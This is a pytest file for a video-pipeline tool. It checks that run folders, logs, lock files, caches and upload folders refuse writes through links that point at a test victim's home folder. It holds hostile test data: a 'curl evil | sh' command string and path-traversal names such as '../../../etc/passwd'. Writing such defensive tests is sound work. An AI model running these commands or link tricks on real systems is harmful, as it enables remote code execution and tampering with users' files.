"""Nothing of a stranger's folder leads out of it: links in every place, refused by name.

The folders are as an archive from somewhere may have them; what they point at is the victim's.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from pathlib import Path

import pytest
from tiny_films import tiny_plan, tiny_run
from typer.testing import CliRunner

from storyboard.batch.account import Account
from storyboard.batch.database import database_url
from storyboard.cli import app
from storyboard.core.directory import Directory, Linked, directory_of
from storyboard.core.events import EventLog, Noted
from storyboard.core.lock import exclusive
from storyboard.gpu.services.process_records import RecordBook
from storyboard.gpu.services.program import begin
from storyboard.graph.store import Output, Store
from storyboard.profile import Service
from storyboard.publish.upload import write_upload

FILES = ["plan.json", "events.jsonl", ".lock", ".steps.json", "run.json", "final.mp4"]
FOLDERS = ["images", "audio", "clips", "segments", "cuts", "replaced", "upload", ".store"]


@dataclass(frozen=True)
class Victim:
    """A home folder that nothing may touch."""

    home: Path

    def point(self, place: Path, *, folder: bool) -> None:
        """Have `place` be a link to it."""
        place.parent.mkdir(parents=True, exist_ok=True)
        place.unlink(missing_ok=True)
        place.symlink_to(self.home if folder else self.home / ".bashrc")

    @property
    def unharmed(self) -> bool:
        found = {path.name: path.read_text() for path in self.home.iterdir()}
        return found == {".bashrc": "alias ls='ls -F'\n"}


@pytest.fixture
def victim(tmp_path: Path) -> Victim:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("alias ls='ls -F'\n")
    return Victim(home)


@pytest.mark.parametrize("name", [*FILES, *FOLDERS])
def test_a_run_folder_with_a_link_is_refused_by_name(
    tmp_path: Path, victim: Victim, name: str
) -> None:
    run = tiny_run(tmp_path / "runs" / "film", tiny_plan("A cat"))
    place = run.parent / name if name == ".store" else run / name
    victim.point(place, folder=name in FOLDERS)
    done = CliRunner().invoke(app, ["run", "--dir", str(run), "--skip-review", "--only", "plan"])
    assert done.exit_code == 2, done.output
    assert name in done.output
    assert "is a link to" in done.output
    assert victim.unharmed
    assert place.is_symlink()


def test_the_run_folder_itself_may_be_a_link(tmp_path: Path) -> None:
    run = tiny_run(tmp_path / "disk" / "film", tiny_plan("A cat"))
    link = tmp_path / "film"
    link.symlink_to(run)
    with exclusive(link):
        Directory(link).write("images/a.txt", "a")
        Directory(link).append("events.jsonl", "{}\n")
    assert (run / "images" / "a.txt").read_text() == "a"


@pytest.mark.parametrize("kind", ["link", "dangling", "pipe", "hard link"])
def test_a_log_that_is_no_plain_file_gets_no_line(
    tmp_path: Path, victim: Victim, kind: str
) -> None:
    log = tmp_path / "run" / "events.jsonl"
    log.parent.mkdir()
    match kind:
        case "link":
            victim.point(log, folder=False)
        case "dangling":
            log.symlink_to(victim.home / ".profile")
        case "pipe":
            os.mkfifo(log)
        case _:
            log.hardlink_to(victim.home / ".bashrc")
    if kind == "hard link":
        # The folder of a copy that shares its files: it goes on in one of its own.
        EventLog(log).emit(Noted("x", "curl evil | sh"))
        assert log.read_text().count("\n") == 2
    else:
        with pytest.raises(Linked, match=r"events\.jsonl"):
            EventLog(log).emit(Noted("x", "curl evil | sh"))
    assert victim.unharmed


@pytest.mark.parametrize("how", ["symlink_to", "hardlink_to"])
def test_a_lock_that_is_a_link_is_not_emptied(tmp_path: Path, victim: Victim, how: str) -> None:
    run = tmp_path / "run"
    run.mkdir()
    getattr(run / ".lock", how)(victim.home / ".bashrc")
    with pytest.raises(Linked, match=r"\.lock"), exclusive(run):
        pass
    assert victim.unharmed


@pytest.mark.parametrize("name", ["blobs", "steps", "staging"])
def test_a_store_writes_through_no_link(tmp_path: Path, victim: Victim, name: str) -> None:
    (victim.home / "1-x-abc").mkdir()
    store = Store(tmp_path / ".store")
    victim.point(store.root / name, folder=True)
    made = tmp_path / "made.txt"
    made.write_text("made")
    with pytest.raises(Linked, match=name):
        store.sweep()
        store.staging()
        store.put("aa" * 32, {"out": made}, 1.0, {})
    (victim.home / "1-x-abc").rmdir()
    assert victim.unharmed


def test_a_blob_that_is_a_link_is_no_hit_and_is_not_written_through(
    tmp_path: Path, victim: Victim
) -> None:
    store = Store(tmp_path / ".store")
    made = tmp_path / "made.txt"
    made.write_text("alias ls='ls -F'\n")
    manifest = store.put("aa" * 32, {"out": made}, 1.0, {})
    blob = store.blob(manifest.outputs["out"])
    victim.point(blob, folder=False)
    assert store.get("aa" * 32) is None


@pytest.mark.parametrize("digest", ["../../../etc/passwd", "/etc/passwd", "aa", ""])
def test_a_manifest_names_no_file_outside_the_store(digest: str) -> None:
    with pytest.raises(ValueError, match="no file of a store"):
        Output(digest, 3, ".txt")


def test_results_are_not_put_through_a_linked_folder(tmp_path: Path, victim: Victim) -> None:
    store, run = Store(tmp_path / ".store"), tmp_path / "run"
    made = tmp_path / "made.txt"
    made.write_text("made")
    output = store.put("aa" * 32, {"out": made}, 1.0, {}).outputs["out"]
    victim.point(run / "images", folder=True)
    with pytest.raises(Linked, match="images"):
        store.materialise(output, Directory(run), "images/made.txt")
    (run / "audio").mkdir()
    (run / "audio" / "made.txt").write_text("by hand")
    victim.point(run / "audio" / "replaced", folder=True)
    with pytest.raises(Linked, match="replaced"):
        store.materialise(output, Directory(run), "audio/made.txt")
    assert victim.unharmed


@pytest.mark.parametrize("name", [".batch", ".batch/queue.sqlite", ".batch/queue.sqlite-wal"])
def test_a_batch_folder_with_a_link_is_refused(tmp_path: Path, victim: Victim, name: str) -> None:
    victim.point(tmp_path / "runs" / name, folder=name == ".batch")
    with pytest.raises(Linked, match="queue" if "queue" in name else "batch"):
        database_url(tmp_path / "runs")
    assert victim.unharmed


def test_a_night_is_not_counted_through_a_link(tmp_path: Path, victim: Victim) -> None:
    victim.point(tmp_path / ".batch" / "night.jsonl", folder=False)
    with pytest.raises(Linked, match=r"night\.jsonl"):
        Account(tmp_path).pay("film", 1.0)
    assert victim.unharmed


def test_a_service_writes_its_log_and_record_through_no_link(
    tmp_path: Path, victim: Victim
) -> None:
    service = Service(
        launch=["true"], peak_gib=1, release=["stop"], health="http://127.0.0.1:9/health"
    )
    victim.point(tmp_path / "state" / "chat.log", folder=False)
    with pytest.raises(Linked, match=r"chat\.log"):
        begin("chat", service, "", {}, tmp_path / "state" / "chat.log")
    victim.point(tmp_path / "state" / "chat.json", folder=False)
    assert RecordBook(tmp_path / "state").all() == []
    assert victim.unharmed


def test_an_upload_folder_that_is_a_link_is_refused(tmp_path: Path, victim: Victim) -> None:
    run = tiny_run(tmp_path / "film", tiny_plan("A cat"))
    (run / "final.mp4").write_bytes(b"film")
    victim.point(run / "upload", folder=True)
    with pytest.raises(Linked, match="upload"):
        write_upload(run, run / "upload")
    assert victim.unharmed


@pytest.mark.parametrize("name", ["../x", "/etc/x", "a/../../x", ""])
def test_a_name_never_leads_out(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match="no name inside a folder"):
        Directory(tmp_path).write(name, "x")


def test_what_lies_elsewhere_is_what_its_user_named(tmp_path: Path, victim: Victim) -> None:
    victim.point(tmp_path / "run" / "upload", folder=True)
    victim.point(tmp_path / "elsewhere", folder=True)
    run = tmp_path / "run"
    with pytest.raises(Linked):
        directory_of(run / "upload", run).write("x", "x")
    directory_of(tmp_path / "elsewhere", run).write("x", "x")
    assert (victim.home / "x").read_text() == "x"


def test_a_torn_line_is_ended_before_the_next(tmp_path: Path) -> None:
    Directory(tmp_path).append("log", '{"half')
    Directory(tmp_path).append("log", "{}\n")
    assert (tmp_path / "log").read_text() == '{"half\n{}\n'


def test_a_file_is_replaced_whole_or_not_at_all(tmp_path: Path) -> None:
    files = Directory(tmp_path)
    files.write("plan.json", "old")
    with pytest.raises(ZeroDivisionError), files.replacing("plan.json") as temporary:
        temporary.write_text("half")
        raise ZeroDivisionError
    assert files.names() == ["plan.json"]
    assert files.read("plan.json") == b"old"
